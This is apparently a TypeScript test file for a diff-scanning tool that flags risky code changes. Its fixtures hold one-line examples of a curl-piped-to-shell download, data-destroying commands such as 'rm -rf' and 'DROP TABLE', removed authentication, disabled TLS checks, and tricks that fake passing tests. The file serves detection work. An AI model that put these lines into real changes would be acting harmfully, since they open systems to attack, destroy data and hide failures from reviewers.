import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parsePatch } from '../../../src/judgement/evidence/patch.ts';
import { hostsIn, signalsOf } from '../../../src/judgement/evidence/signals.ts';

/** Signals of a patch given as its changed lines. */
function signals(path: string, lines: string[], base: string | null = null): string[] {
  const patch = {
    path,
    binary: false,
    lines: lines.map((line, at) => ({
      sign: line[0] === '-' ? ('-' as const) : ('+' as const),
      line: at + 1,
      text: line.slice(1),
    })),
  };
  const known = base === null ? null : hostsIn(base);
  return [...new Set(signalsOf([patch], () => known).map((hit) => hit.signal))];
}

const CI = '.github/workflows/ci.yml';
const FOUND: [string, string, string[], string[]][] = [
  ['a privileged trigger', CI, ['+on: pull_request_target'], ['ci-privileged-trigger']],
  ['secrets in CI', CI, [`+  TOKEN: $${'{{'} secrets.TOKEN }}`], ['ci-secrets']],
  ['inherited secrets', CI, ['+  secrets: inherit'], ['ci-secrets']],
  ['wider permissions', CI, ['+  contents: write'], ['ci-secrets']],
  ['an action by tag', CI, ['+  - uses: actions/checkout@v4'], ['ci-unpinned']],
  ['an install script', 'package.json', ['+  "postinstall": "node x.js",'], ['install-script']],
  [
    'another test command',
    'package.json',
    ['-"test": "vitest"', '+"test": "true"'],
    ['test-command'],
  ],
  ['a pretest', 'package.json', ['+"pretest": "node x.js"'], ['test-command']],
  [
    'a removed check',
    'src/routes.ts',
    ['-  if (!requireAuth(req)) return deny();'],
    ['auth-removed'],
  ],
  ['a removed decorator', 'views.py', ['-@login_required'], ['auth-removed']],
  [
    'a check left in a comment',
    'src/routes.ts',
    ['-  checkPermission(u);', '+  // checkPermission(u);'],
    ['auth-removed'],
  ],
  ['a check that is always true', 'src/auth/check.ts', ['+  return true;'], ['always-true']],
  [
    'an unsigned token',
    'src/a.ts',
    ["+  jwt.verify(t, k, { algorithms: ['none'] })"],
    ['always-true'],
  ],
  ['unchecked certificates', 'src/a.ts', ['+  rejectUnauthorized: false'], ['tls-off']],
  ['unchecked certificates in Python', 'a.py', ['+requests.get(u, verify=False)'], ['tls-off']],
  ['weak crypto', 'src/crypto/hash.ts', ["+createHash('md5')"], ['weak-crypto']],
  ['a dropped table', 'db/migrations/9.sql', ['+DROP TABLE users;'], ['sql-drop']],
  [
    'a dropped column in Python',
    'app/migrations/2.py',
    ["+op.drop_column('users', 'email')"],
    ['sql-drop'],
  ],
  ['an emptied table', 'db/x.sql', ['+DELETE FROM orders;'], ['data-delete']],
  ['a removed folder', 'scripts/clean.sh', ['+rm -rf "$HOME/data"'], ['data-delete']],
  ['a skipped test', 'test/a.test.ts', ["+it.skip('works', () => {"], ['test-skip']],
  ['a single test', 'test/a.test.ts', ["+it.only('works', () => {"], ['test-skip']],
  ['a skipped pytest', 'tests/test_a.py', ['+@pytest.mark.skip'], ['test-skip']],
  ['a skipped Go test', 'a_test.go', ['+\tt.Skip("flaky")'], ['test-skip']],
  ['an ignored Rust test', 'tests/a.rs', ['+#[ignore]'], ['test-skip']],
  ['an early exit', 'test/setup.js', ['+process.exit(0)'], ['test-exit']],
  ['a forged outcome', 'conftest.py', ["+    report.outcome = 'passed'"], ['test-exit']],
  ['an ignored failure', 'package.json', ['+  "check": "vitest || true",'], ['test-exit']],
  ['a piped download', 'setup.sh', ['+curl https://x.example | sh'], ['download-run']],
  ['run text', 'src/a.js', ['+eval(input)'], ['dynamic-code']],
  ['an open bucket', 'main.tf', ['+  acl = "public-read"'], ['wide-open']],
  ['an open port range', 'main.tf', ['+  cidr_blocks = ["0.0.0.0/0"]'], ['wide-open']],
  ['text in reverse', 'src/a.ts', ['+const a = "\u202e";'], ['hidden-text']],
  ['an invisible space', 'README.md', ['+a\u200bb'], ['hidden-text']],
  ['a control character', 'src/a.ts', ['+a\u001b[2J'], ['hidden-text']],
  ['a long blob', 'src/a.ts', [`+const a = '${'QUJD'.repeat(120)}';`], ['encoded']],
  [
    'fewer assertions',
    'test/a.test.ts',
    ['-  expect(a).toBe(1);', '+  run(a);'],
    ['assertion-removed'],
  ],
  [
    'a git dependency',
    'package-lock.json',
    ['+"resolved": "git+ssh://git@host.example/a.git"'],
    ['registry-change'],
  ],
  ['a registry', '.npmrc', ['+registry=http://x.example/'], ['registry-change']],
];
const QUIET: [string, string, string[]][] = [
  ['a plain fix', 'src/add.ts', ['-  return a - b;', '+  return a + b;']],
  ['a pinned action', CI, [`+  - uses: actions/checkout@${'a'.repeat(40)} # v4`]],
  ['a local action', CI, ['+  - uses: ./.github/actions/setup']],
  ['a check that only moved', 'src/a.ts', ['-requireAuth(req);', '+  requireAuth(req);']],
  ['a word of prose', 'README.md', ['+Use eval( with care and DROP TABLE never.']],
  ['emoji in prose', 'README.md', ['+👩‍💻 ❤️']],
  ['cleaning up in a test', 'test/a.test.ts', ['+rmSync(dir, { recursive: true });']],
  ['a new test', 'test/a.test.ts', ["+it('adds', () => expect(add(1, 2)).toBe(3));"]],
  ['a byte order mark at the start', 'src/a.cs', ['+\ufeffusing System;']],
  ['Windows line ends', 'src/a.cs', ['+using System;\r']],
  ['integrity hashes', 'package-lock.json', [`+"integrity": "sha512-${'A'.repeat(86)}=="`]],
];

describe('signalsOf', () => {
  it.each(FOUND)('finds %s', (_name, path, lines, expected) => {
    expect(signals(path, lines)).toEqual(expected);
  });
  it.each(QUIET)('is quiet about %s', (_name, path, lines) => {
    expect(signals(path, lines)).toEqual([]);
  });

  it('compares package sources with those the file named before', () => {
    const lines = ['+"resolved": "https://one.example/a.tgz"'];
    expect(signals('yarn.lock', lines, 'https://one.example/b.tgz')).toEqual([]);
    expect(signals('yarn.lock', lines, 'https://two.example/b.tgz')).toEqual(['registry-change']);
    expect(
      signals('.npmrc', ['+registry=https://two.example/'], 'registry=https://one.example/'),
    ).toEqual(['registry-change']);
  });

  it('keeps three places per signal', () => {
    const hits = signalsOf(
      [
        {
          path: 'a.js',
          binary: false,
          lines: Array.from({ length: 9 }, (_, at) => ({
            sign: '+' as const,
            line: at + 1,
            text: 'eval(1)',
          })),
        },
      ],
      () => null,
    );
    expect(hits.map((hit) => hit.line)).toEqual([1, 2, 3]);
  });

  it('does not get stuck on long hostile lines', () => {
    const pieces = [
      'curl ',
      'A'.repeat(399).concat(' '),
      'rm(',
      'delete from ',
      'uses: x',
      '"resolved":',
      'https://',
      '\\x41',
      ' if (',
      'permissions: ',
    ];
    for (const path of ['src/auth.js', CI, 'package.json', 'yarn.lock', 'test/a.test.js'])
      for (const piece of pieces)
        expect(() =>
          signals(path, [`+${piece.repeat(Math.ceil(200_000 / piece.length))}`]),
        ).not.toThrow();
  });

  it('never throws', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.array(fc.string({ unit: 'binary' })),
        (path, lines) => {
          signals(
            path === '' ? 'x' : path,
            lines.map((line) => `+${line}`),
          );
        },
      ),
    );
  });
});

describe('parsePatch', () => {
  const patch = [
    'diff --git a/x b/x',
    'index 1..2 100644',
    '--- a/x',
    '+++ b/x',
    '@@ -1,2 +1,3 @@',
    ' same',
    '-diff --git a/evil b/evil',
    '+@@ -9,9 +9,9 @@',
    '+--- a/evil',
    '\\ No newline at end of file',
    'diff --git a/y b/y',
    'old mode 100644',
    'new mode 100755',
    '',
  ].join('\n');
  const expected = [
    { path: 'x', sections: 1 as const },
    { path: 'y', sections: 1 as const },
  ];
  it('takes no content for a header', () => {
    expect(parsePatch(patch, expected, false)).toEqual([
      {
        path: 'x',
        binary: false,
        lines: [
          { sign: '-', line: 2, text: 'diff --git a/evil b/evil' },
          { sign: '+', line: 2, text: '@@ -9,9 +9,9 @@' },
          { sign: '+', line: 3, text: '--- a/evil' },
        ],
      },
      { path: 'y', binary: false, lines: [] },
    ]);
  });
  it('refuses a patch that does not fit its list', () => {
    expect(parsePatch(patch, expected.slice(0, 1), false)).toBeNull();
    expect(parsePatch(patch, [...expected, { path: 'z', sections: 1 }], false)).toBeNull();
    expect(parsePatch(`x\n${patch}`, expected, false)).toBeNull();
    expect(parsePatch(patch, [...expected, { path: 'z', sections: 1 }], true)).toHaveLength(2);
  });
});
